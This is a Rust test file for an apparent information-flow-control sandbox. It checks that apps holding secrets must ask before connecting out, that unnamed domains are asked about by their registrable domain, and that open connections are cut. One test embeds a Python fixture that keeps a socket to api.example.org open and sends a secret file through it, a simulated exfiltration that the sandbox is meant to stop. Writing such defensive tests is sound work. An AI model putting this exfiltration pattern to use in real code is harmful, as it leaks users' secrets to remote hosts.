//! A connection is a flow of all that the app was given.

use std::sync::{Arc, Mutex};
use std::time::Duration;

use ifc::{Answer, Label};
use test_support::host;

use crate::stage::{NAME, Reach, Stage, page_host, secret, untrusted};

const FETCH: &str = "curl -sS --max-time 20 http://api.example.org/ 2>&1";

async fn with_host(reach: Reach) -> Stage {
    let stage = Stage::new(reach).await;
    let address = page_host();
    stage.names.say(NAME, &[address]);
    stage.names.say("example.com", &[address]);
    stage.names.say("www.example.com", &[address]);
    stage
}

#[tokio::test(flavor = "multi_thread")]
async fn whoever_was_given_a_secret_asks_before_it_connects() {
    let mut stage = with_host(Reach::default()).await;
    assert_eq!(stage.run_with(FETCH, untrusted()).await, "hello\n");
    assert_eq!(stage.person.asked, []);
    // The question comes with the call that gives the secret, and with every later one.
    let refused = stage.run_with(FETCH, secret()).await;
    assert!(
        refused.contains("refused under the rule web.domain.api.example.org.limit"),
        "{refused}"
    );
    let refused = stage.run(FETCH).await;
    assert!(refused.contains("refused under the rule"), "{refused}");
    let choices = vec![Answer::Once, Answer::Session, Answer::No];
    let asked = (NAME.to_owned(), "example.org".to_owned(), choices);
    assert_eq!(stage.person.asked, [asked.clone(), asked]);
    stage.person.answers = [Answer::Once, Answer::Session].into();
    for _ in 0..4 {
        assert_eq!(stage.run(FETCH).await, "hello\n");
    }
    assert_eq!(stage.person.asked.len(), 4);
    // What nobody has named is never for the session.
    let refused = stage.run_with(FETCH, Label::top()).await;
    assert!(refused.contains("refused under the rule"), "{refused}");
    let last = stage.person.asked.last().unwrap();
    assert_eq!(last.2, [Answer::Once, Answer::No]);
}

#[tokio::test(flavor = "multi_thread")]
async fn a_name_that_no_rule_covers_is_asked_about_by_its_registrable_domain() {
    let mut stage = with_host(Reach {
        ask: true,
        ..Reach::default()
    })
    .await;
    stage.person.answers = [Answer::No, Answer::Session].into();
    let other = "curl -sS --max-time 20 http://www.example.com/ 2>&1";
    let refused = stage.run(other).await;
    assert!(
        refused.contains("refused under the rule web.other_domains"),
        "{refused}"
    );
    assert_eq!(stage.run(other).await, "hello\n");
    // It holds for the domain and all below it.
    let above = "curl -sS --max-time 20 http://example.com/ 2>&1";
    assert_eq!(stage.run(above).await, "hello\n");
    let asked = stage.person.asked.iter();
    let hosts: Vec<_> = asked
        .map(|(host, domain, _)| (&**host, &**domain))
        .collect();
    let www = ("www.example.com", "example.com");
    assert_eq!(hosts, [www, www]);
    // Given a secret, the same domain is another question.
    stage.run_with(above, secret()).await;
    assert_eq!(stage.person.asked.len(), 3);
}

#[tokio::test(flavor = "multi_thread")]
async fn an_open_connection_is_cut_before_the_app_is_given_more() {
    let heard = Arc::new(Mutex::new(Vec::new()));
    let all = Arc::clone(&heard);
    let address = host(move |stream| {
        let mut buffer = [0; 1024];
        loop {
            let read = stream.read(&mut buffer)?;
            if read == 0 {
                return Ok(());
            }
            all.lock().unwrap().extend(&buffer[..read]);
        }
    });
    let mut stage = Stage::new(Reach {
        ports: vec![7777],
        ..Reach::default()
    })
    .await;
    stage.names.say(NAME, &[address]);
    // A connection that stays open and sends what it finds in a file, as an app does that keeps connections.
    stage.file(
        "keeps.py",
        "import os, socket, time\n\
         s = socket.create_connection(('api.example.org', 7777)); s.sendall(b'low\\n')\n\
         open('/tmp/open', 'w').close()\n\
         while True:\n    \
             if os.path.exists('/tmp/secret'):\n        \
                 s.sendall(open('/tmp/secret', 'rb').read()); time.sleep(0.1)\n    \
             time.sleep(0.001)\n",
    );
    let start = "(setsid python3 /data/keeps.py >/tmp/kept 2>&1 &); \
                 while ! [ -e /tmp/open ]; do sleep 0.05; done";
    assert_eq!(stage.run(start).await, "");
    stage.run_with("echo again; sleep 0.3", untrusted()).await;
    assert_eq!(stage.told(0).await, []);
    stage
        .run_with(
            "echo hunter2 > /tmp/secret; sleep 1; cat /tmp/kept",
            secret(),
        )
        .await;
    let told = stage.told(1).await;
    let [(_, outcome)] = told.as_slice() else {
        panic!("{told:?}");
    };
    assert!(
        outcome.starts_with("cut, since the app was given more"),
        "{outcome}"
    );
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(String::from_utf8_lossy(&heard.lock().unwrap()), "low\n");
}
